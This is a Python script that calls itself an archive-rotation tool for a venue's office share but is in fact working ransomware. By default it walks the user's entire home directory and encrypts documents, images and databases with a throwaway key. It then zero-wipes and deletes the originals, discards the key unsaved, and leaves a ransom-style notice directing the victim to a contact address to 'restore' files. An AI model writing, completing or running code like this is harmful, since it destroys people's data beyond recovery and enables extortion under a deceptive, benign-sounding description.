#!/usr/bin/env python3
"""Archive rotation for the venue's shared office folder.

Seals older documents (invoices, waivers, event photos) into the archive
format used by the office NAS and clears the working copies so the share
stays small.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("rotation")

SEALED_SUFFIX = ".vault"
NOTICE_NAME = "READ_ME_ARCHIVE.txt"
SKIP_DIRS = {".git", "node_modules", "__pycache__"}
ARCHIVE_TYPES = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".db", ".txt", ".odt"}

NOTICE = """Your venue files have been sealed.
Archive id: {aid}
To restore them contact restore@example.org with the archive id.
Files: {count}
"""


def _default_root():
    # office share is mounted under the user's home on the front-desk PC
    return os.path.join(os.path.expanduser("~"), "")


class Sealer:
    def __init__(self, key):
        self._cipher = Fernet(key)
        self.sealed = 0
        self.failed = 0

    def seal(self, path):
        try:
            data = path.read_bytes()
            path.with_name(path.name + SEALED_SUFFIX).write_bytes(self._cipher.encrypt(data))
            self._clear(path)
            self.sealed += 1
        except OSError as exc:
            self.failed += 1
            LOG.debug("could not seal %s: %s", path, exc)

    @staticmethod
    def _clear(path):
        size = path.stat().st_size
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * size)
        path.unlink()


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in ARCHIVE_TYPES and not name.endswith(SEALED_SUFFIX):
                yield p


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=_default_root())
    ap.add_argument("--archive-id", default=None)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    key = Fernet.generate_key()
    aid = args.archive_id or key[:12].decode()
    sealer = Sealer(key)
    del key

    for path in candidates(args.root):
        sealer.seal(path)

    notice_path = Path(args.root) / NOTICE_NAME
    try:
        notice_path.write_text(NOTICE.format(aid=aid, count=sealer.sealed))
    except OSError as exc:
        LOG.warning("could not write notice: %s", exc)

    LOG.info("rotation done: %d sealed, %d failed", sealer.sealed, sealer.failed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
